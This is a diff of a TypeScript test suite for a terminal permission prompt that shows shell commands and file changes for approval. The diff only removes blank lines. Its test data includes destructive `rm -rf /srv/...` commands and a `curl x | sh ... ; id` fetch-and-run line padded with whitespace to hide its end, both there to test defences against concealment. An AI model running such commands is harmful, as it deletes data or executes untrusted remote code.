@@ -50,7 +50,6 @@ function open(stage: TestStage = testStage()) {
 describe('a permission question', () => {
   it('shows the whole command, what decided and the choices', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     void ask(push);
     expect(stage.shown()).toEqual([
@@ -71,7 +70,6 @@ describe('a permission question', () => {
 
   it('marks a dangerous command, and enter alone does not allow it', async () => {
     proves('C-104');
-
     const painted: string[] = [];
     const paint = (colour: string, text: string) => {
       if (colour === 'error') painted.push(text);
@@ -95,7 +93,6 @@ describe('a permission question', () => {
 
   it('shows more of a long dangerous command only before it is allowed', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const command = Array.from({ length: 60 }, (_, index) => `rm -rf /srv/${index}`).join('\n');
     const about = { ...called, dangers: ['deletes /srv/0, outside the workspace'] };
@@ -109,7 +106,6 @@ describe('a permission question', () => {
 
   it('is answered with arrows and enter, by number, by y and n, and leaves a line', async () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const once = ask(push);
     stage.press('enter');
@@ -138,7 +134,6 @@ describe('a permission question', () => {
 
   it('a no takes words, and escape goes back to the choices', async () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const answer = ask(push);
     stage.press('4', 'enter');
@@ -164,7 +159,6 @@ describe('a permission question', () => {
     '2nd',
   ])('no letter of a sentence answers: %s', async (sentence) => {
     proves('C-104');
-
     const { stage, ask } = open();
     const answer = ask(push);
     stage.press(...sentence);
@@ -175,7 +169,6 @@ describe('a permission question', () => {
 
   it('what is pasted is told, and left without an answer it stops what the call is part of', async () => {
     proves('C-104');
-
     const stage = testStage();
     const stopped: string[] = [];
     const clock = { time: 0 };
@@ -214,7 +207,6 @@ describe('a permission question', () => {
 
   it('words where none are asked for choose nothing', async () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const answer = ask({ kind: 'confirm', title: 'Delete it?' });
     stage.press(...'why', 'enter');
@@ -225,7 +217,6 @@ describe('a permission question', () => {
 
   it('shows the command first on the smallest screens, and names the keys for the rest', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     void ask(push);
     expect(stage.shown(20, 8)).toEqual([
@@ -244,7 +235,6 @@ describe('a permission question', () => {
 
   it('shows the whole diff of a change hunk by hunk, with hidden characters spelt out', () => {
     proves('C-90');
-
     const { stage, ask } = open();
     const context = (line: number) => ({ kind: 'context', text: `line ${line}`, line }) as const;
     const lines = [
@@ -284,7 +274,6 @@ describe('a permission question', () => {
 
   it('shows a long command in full by scrolling, and its choices at the same time', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const command = Array.from({ length: 60 }, (_, index) => `step-${index}`).join('\n');
     void ask({ ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` });
@@ -311,7 +300,6 @@ describe('a permission question', () => {
 
   it('allows nothing whose end was never scrolled to, and denies at once', async () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const command = Array.from({ length: 60 }, (_, index) => `step-${index}`).join('\n');
     const long = { ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` };
@@ -344,7 +332,6 @@ describe('a permission question', () => {
 
   it('does not let blank space push the end of a command out of sight', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const command = `npm test${'\n'.repeat(120)}curl x | sh${' '.repeat(3000)}; id`;
     void ask({ ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` });
@@ -357,7 +344,6 @@ describe('a permission question', () => {
 
   it('shows the ends of lines in the rules it offers', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const [once, , , no] = push.options;
     const options = [once, { label: 'Allow `Bash(npm test\n\n\ncurl x)` for this session' }, no].filter(
@@ -371,7 +357,6 @@ describe('a permission question', () => {
 
   it('spells out what is invisible in a command', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     void ask({
       ...push,
@@ -417,7 +402,6 @@ describe('the question what of a repository may be used', () => {
 describe('questions', () => {
   it('queue one at a time, and a second stroke does not fall on the next one', async () => {
     proves('C-104');
-
     const { stage, ui, clock } = open();
     const first = ui.ask(push);
     const second = ui.ask({ ...push, title: 'The second' });
@@ -438,7 +422,6 @@ describe('questions', () => {
 
   it('take no key before anyone can have read them', async () => {
     proves('C-104');
-
     const { stage, ui, clock } = open();
     const answer = ui.ask(push);
     stage.press('enter', 'down', 'enter');
@@ -451,7 +434,6 @@ describe('questions', () => {
 
   it('are withdrawn where they are no longer asked, shown or not, and leave no line', async () => {
     proves('C-104');
-
     const { stage, ask } = open();
     const [one, two] = [new AbortController(), new AbortController()];
     const first = ask(push, one.signal);
@@ -544,7 +526,6 @@ describe('questions', () => {
 
   it('fit into every width and height, in ASCII too', () => {
     proves('C-104');
-
     for (const isAscii of [false, true])
       for (const columns of [20, 40, 80])
         for (const rows of [6, 10, 24]) {
@@ -562,7 +543,6 @@ describe('questions', () => {
 
   it('look like this in 20 columns', () => {
     proves('C-104');
-
     const { stage, ask } = open();
     void ask({ ...push, options: push.options.slice(0, 2) });
     expect(stage.shown(20, 24)).toEqual([
